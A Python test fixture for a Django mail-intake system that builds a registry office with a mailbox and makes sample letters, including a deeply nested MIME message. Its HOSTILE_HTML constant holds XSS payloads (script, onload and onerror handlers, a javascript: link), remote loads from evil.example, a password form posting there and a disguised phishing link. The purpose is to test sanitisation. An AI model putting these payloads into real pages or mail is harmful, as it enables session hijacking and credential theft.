"""A registry office at work, for tests of pages: a town, people who sign in, post that has come."""

from __future__ import annotations

import itertools
from dataclasses import dataclass
from datetime import datetime, timedelta
from email.header import Header
from typing import Any

from django.utils import timezone

from accounts.models import User
from accounts.rules.roles import Role
from intake.actions.receive import Arrival, receive
from intake.actions.screen import screen
from intake.actions.set_up import set_up_mailbox
from intake.models import Mailbox, Message
from lib.reading import reader
from tests.registry.cast import Town, build_town

PASSWORD = "a long password"
SENDER = "ola@example.net"
_numbers = itertools.count(1)

HOSTILE_HTML = b"""<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/r">
<link rel="stylesheet" href="http://evil.example/s.css">
<style>body{background:url(http://evil.example/css.png)} @import url(http://evil.example/i.css);</style>
<script>parent.document.title='owned';document.title='owned'</script><base href="http://evil.example/">
</head><body onload="parent.document.title='owned'">
<p style="background-image:url(http://evil.example/bg.png);position:fixed;top:0">Good day</p>
<img src="http://evil.example/pixel.gif" onerror="parent.document.title='owned'">
<img src="x" onerror="parent.document.title='owned'">
<svg onload="parent.document.title='owned'"><script>parent.document.title='owned'</script></svg>
<form action="http://evil.example/post"><input name="password"><button>Sign in</button></form>
<iframe src="http://evil.example/f"></iframe><video src="http://evil.example/v" autoplay></video>
<a href="http://evil.example/phish">https://bank.example/</a>
<a href="javascript:parent.document.title='owned'">click</a></body></html>"""


@dataclass
class Office:
    """The town with its central mailbox and a registrar."""

    town: Town
    mailbox: Mailbox
    registrar: User

    def mail(
        self,
        subject: str = "Spørsmål om veglys",
        text: str = "Hei,\n\nlampa i Storgata er mørk.\n\nHilsen Ola Nordmann\nStorgata 1, 0001 NN",
        *,
        at: datetime | None = None,
        sender: str = SENDER,
        **headers: str,
    ) -> Message:
        """A plain letter from a person, received and screened."""
        lines = {
            "From": f"Ola Nordmann <{sender}>",
            "To": self.mailbox.address,
            "Message-ID": f"<{next(_numbers)}@example.net>",
            "Content-Type": "text/plain; charset=utf-8",
            "Content-Transfer-Encoding": "8bit",
            **{name.replace("_", "-"): value for name, value in headers.items()},
        }
        if subject:
            lines["Subject"] = Header(subject, "utf-8", maxlinelen=70).encode(linesep="\r\n")
        head = "".join(f"{name}: {value}\r\n" for name, value in lines.items())
        raw = f"{head}\r\n{text}\r\n".encode()
        return self.raw(raw, at=at, sender=sender)

    def hostile(self) -> Message:
        """A letter that tries everything to run, load, submit or lead astray."""
        head = (
            b"From: Ola Nordmann <ola@example.net>\r\nSubject: Hostile\r\n"
            b"Content-Type: text/html; charset=utf-8\r\n\r\n"
        )
        return self.raw(head + HOSTILE_HTML)

    def with_files(self, filename: str = "kart.pdf") -> Message:
        """A letter with a picture of its own in its HTML, and an attachment."""
        png = (
            b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJ"
            b"RU5ErkJggg=="
        )
        raw = (
            b"Subject: Files\r\nFrom: Ola <ola@example.net>\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
            b"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            b'<p>Picture: <img src="cid:pic@x" alt="dot"></p>\r\n'
            b"--b\r\nContent-Type: image/png\r\nContent-ID: <pic@x>\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + png + b"\r\n"
            b"--b\r\nContent-Type: application/pdf\r\n"
            b'Content-Disposition: attachment; filename="' + filename.encode() + b'"\r\n\r\n'
            b"%PDF-1.4 %%EOF\r\n--b--\r\n"
        )
        return self.raw(raw)

    def held(self) -> Message:
        """A mail that cannot be read: its parts lie a hundred deep."""
        parts = b"".join(
            b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n)
            for n in range(100)
        )
        return self.raw(b"Subject: deep %d\r\n" % next(_numbers) + parts)

    def raw(
        self, raw: bytes, *, at: datetime | None = None, sender: str = SENDER, **arrival: Any
    ) -> Message:
        """Whatever bytes, received by SMTP and screened."""
        at = at or timezone.now() - timedelta(minutes=30) + timedelta(seconds=next(_numbers))
        received = receive(
            arrival=Arrival(
                raw=raw,
                door="smtp",
                received_at=at,
                recipients=[self.mailbox.address],
                envelope_from=sender,
                **arrival,
            ),
            by="system:test",
        )
        screen(message_id=received.message_id, read=reader(), by="system:test", at=at)
        return Message.objects.get(pk=received.message_id)

    def user(self, *roles: Role, password: str = "") -> User:
        """A person with these roles who reads English, and can sign in with the password."""
        user = self.town.user(*roles)
        user.language = "en"
        if password:
            user.set_password(password)
        user.save()
        return user


def open_office(password: str = "") -> Office:
    """Write the town, its mailbox and its registrar to the database."""
    town = build_town()
    mailbox = set_up_mailbox(
        address="post@nn.example",
        name="Post",
        kind="central",
        authority_id=town.series.authority_id,
        unit_id=town.health.pk,
        language="nb",
    )
    office = Office(town=town, mailbox=mailbox, registrar=None)  # type: ignore[arg-type]
    office.registrar = office.user(Role.REGISTRAR, password=password)
    return office
